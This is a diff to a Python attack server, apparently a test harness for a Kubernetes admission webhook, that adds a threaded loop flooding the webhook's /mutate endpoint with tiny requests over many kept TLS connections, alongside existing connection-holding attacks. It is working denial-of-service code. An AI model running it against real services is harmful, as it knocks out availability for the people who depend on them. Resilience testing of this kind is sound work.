@@ -14,6 +14,7 @@ import socket
 import ssl
 import subprocess
 import sys
+import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -22,6 +23,7 @@ PORT = 8080
 ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
 SECONDS = 30.0  # for an answer, longer than any server's own time limits
 HEAD = b"POST /mutate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n"
+TINY = b"POST /mutate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
 HELD: list[socket.socket] = []
 
 
@@ -111,12 +113,66 @@ def post(host: str, port: int, path: str, bodies: list[str]) -> list[int]:
     return statuses
 
 
+class Loop:
+    """Tiny reviews on connections that are kept, each sent again as soon as it was answered."""
+
+    def __init__(self) -> None:
+        self.ended = threading.Event()
+        self.answers = [0]
+        self.threads: list[threading.Thread] = []
+
+    def begin(self, addresses: list[list[object]], count: int) -> None:
+        for host, port in addresses:
+            self.threads += [
+                threading.Thread(target=self._keep_on, args=(str(host), int(str(port)))) for _ in range(count)
+            ]
+        self.answers = [0] * len(self.threads)
+        for each in self.threads:
+            each.start()
+
+    def _keep_on(self, host: str, port: int) -> None:
+        own = self.threads.index(threading.current_thread())
+        while not self.ended.is_set():
+            with (
+                contextlib.suppress(OSError),
+                socket.create_connection((host, port), SECONDS) as plain,
+                untrusting().wrap_socket(plain) as one,
+            ):
+                while not self.ended.is_set():
+                    one.sendall(TINY)
+                    if not one.recv(4096):
+                        break
+                    self.answers[own] += 1
+
+
+LOOPS: list[Loop] = []
+
+
+def loop(addresses: list[list[object]], count: int) -> int:
+    """Post tiny reviews in a loop on so many connections to each address, until `end_loop`."""
+    LOOPS.append(Loop())
+    LOOPS[-1].begin(addresses, count)
+    return len(LOOPS[-1].threads)
+
+
+def end_loop() -> int:
+    """End the loops; how many answers they had."""
+    answers = 0
+    while LOOPS:
+        ended = LOOPS.pop()
+        ended.ended.set()
+        for each in ended.threads:
+            each.join()
+        answers += sum(ended.answers)
+    return answers
+
+
 class AttackHandler(BaseHTTPRequestHandler):
     """Does one attack for each POST."""
 
     def do_POST(self) -> None:
         asked = json.loads(self._body())
-        attack = {each.__name__: each for each in (call, hold, release, post)}[asked.pop("attack")]
+        attack = {each.__name__: each for each in (call, hold, release, post, loop, end_loop)}[asked.pop("attack")]
         answer = json.dumps(attack(**asked)).encode()
         self.send_response(200)
         self.send_header("Content-Length", str(len(answer)))
